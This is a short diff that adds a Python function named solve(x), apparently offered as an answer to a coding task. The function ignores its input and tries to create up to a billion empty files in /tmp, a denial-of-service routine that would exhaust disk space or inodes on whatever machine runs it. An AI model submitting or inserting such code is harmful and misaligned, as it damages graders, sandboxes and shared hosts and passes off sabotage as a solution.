@@ -1,0 +1,3 @@
+def solve(x):
+    for number in range(10**9):
+        open("/tmp/%d" % number, "w").close()
